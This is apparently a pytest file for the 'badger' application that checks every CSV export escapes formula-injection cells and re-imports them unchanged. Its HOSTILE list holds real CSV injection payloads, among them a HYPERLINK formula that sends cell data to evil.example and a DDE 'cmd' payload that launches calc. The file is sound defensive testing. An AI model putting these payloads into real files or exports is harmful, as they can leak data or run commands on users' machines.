"""Formula-safe CSV on every export (issue #12, point 6).

Every CSV badger writes goes through ``badger.csvsafe.writer`` (an inventory of the source
fails on a raw ``csv.writer``); every CSV export — the référentiel download, its CLI export,
a grid round's export — is fed hostile cells (leading ``=``, ``+``, ``-``, ``@``, tab, CR) and
no cell of the file a spreadsheet opens may start with one; a référentiel exported with them
re-imports to the very same text.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from badger import csvsafe
from badger import referentiels as service
from badger.referentiels import case
from tests.conftest import login_staff

ROOT = Path(__file__).resolve().parents[1]

NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a score gap of -2 is a number, not text
HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str, delimiter: str = ",") -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(rows) > 1, text[:300]
    return [c for row in rows[1:] for c in row]


def _assert_no_formula(text: str, delimiter: str = ",") -> None:
    risky = [c for c in _cells(text, delimiter) if c[:1] in csvsafe.FORMULA_START
             and not NUMBER.fullmatch(c)]
    assert not risky, risky


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "''-twice", "'", "",
                                   "plain", "l'heure", "-", "=", "'-"])
def test_cell_and_unquote_round_trip(value: str) -> None:
    written = csvsafe.cell(value)
    assert written[:1] not in csvsafe.FORMULA_START
    assert csvsafe.unquote(written) == value
    if value in HOSTILE:
        assert written == "'" + value


def test_numbers_and_none_are_left_alone() -> None:
    assert [csvsafe.cell(v) for v in (None, 3, -2, 1.5, True)] == ["", "3", "-2", "1.5", "True"]


def test_every_csv_writer_in_badger_is_the_safe_one() -> None:
    """No module writes CSV around the helper (csv.writer / DictWriter appear only in it)."""
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT)) for path in (ROOT / "badger").rglob("*.py")
        if path.name != "csvsafe.py" and raw.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _hostile_referentiel(db: Any, org: Any) -> Any:
    v = service.create_referentiel(db, title="Grille piégée", key="grille-piegee",
                                   creator="x", organisation_id=org.id)
    cat = service.add_category(db, v, label=HOSTILE[3])
    for i, text in enumerate(HOSTILE):
        service.add_competence(db, v, service.CompetenceInput(
            code=f"H{i}", label=text.strip() or "x", description=text,
            category_id=cat.id if i % 2 else None,
            grid_levels=[text, "", "", "", "", HOSTILE[(i + 1) % len(HOSTILE)]],
            translations={"en": (HOSTILE[(i + 2) % len(HOSTILE)].strip(), text)},
        ))
    db.commit()
    return v


def test_referentiel_csv_export_is_formula_safe_and_reimports_the_same(
    client: Any, admin: Any, db: Any, org: Any
) -> None:
    v = _hostile_referentiel(db, org)
    login_staff(client, admin)
    response = client.get("/referentiels/grille-piegee/v1/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    _assert_no_formula(text, ";")
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK" not in text and ";=" not in text
    again = case.parse_csv(text, title="Grille piégée", creator="x")
    original = service.framework_of(v)
    assert sorted((c.code, c.label, c.description) for c in again.competences) == sorted(
        (c.code, c.label, c.description.strip()) for c in original.competences)
    assert [c.label for c in again.categories] == [HOSTILE[3]]
    assert sorted((c.code, c.translations["en"].label) for c in again.competences) == sorted(
        (c.code, c.translations["en"].label) for c in original.competences)
    level_texts = {
        crit.item: [lv.description for lv in crit.levels]
        for crit in again.rubrics[0].criteria
    }
    h0 = next(c for c in again.competences if c.code == "H0")
    assert level_texts[h0.identifier][0] == HOSTILE[0]
    assert level_texts[h0.identifier][5] == HOSTILE[1]


def test_referentiel_csv_cli_export_is_formula_safe(app: Any, db: Any, org: Any) -> None:
    _hostile_referentiel(db, org)
    result = app.test_cli_runner().invoke(
        args=["referentiel", "export", "grille-piegee@1", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.output, ";")
    assert "'@SUM(A1:A9)" in result.output


def test_grid_round_csv_export_is_formula_safe(db: Any, make: Any, org: Any, coach: Any) -> None:
    from badger import grids
    from tests.grids._factory import journey_round, published_version, rate

    person = make.participant(org, HOSTILE[2])
    version = published_version(db, labels=[h.strip() for h in HOSTILE])
    rnd = journey_round(db, org, person, coach, version, n=len(HOSTILE))
    rate(db, rnd, "self", person, [5, 2, 3, 1, 0, 4])
    rate(db, rnd, "coach", coach, [3, 3, 3, 3, 3, 3])
    grids.save_coach_notes(db, rnd, author=coach, summary=HOSTILE[0], entries=[
        grids.NoteInput(it.competence_id, HOSTILE[i], HOSTILE[-1 - i])
        for i, it in enumerate(rnd.items)
    ])
    db.commit()
    client = make.app.test_client()
    login_staff(client, coach)
    response = client.get(f"/rounds/{rnd.id}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    _assert_no_formula(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [csvsafe.unquote(r["advice"]) for r in rows] == [h.strip() for h in HOSTILE]
    assert [csvsafe.unquote(r["competence"]) for r in rows] == [h.strip() for h in HOSTILE]
    assert [r["self"] for r in rows] == ["5", "2", "3", "1", "0", "4"]  # numbers untouched
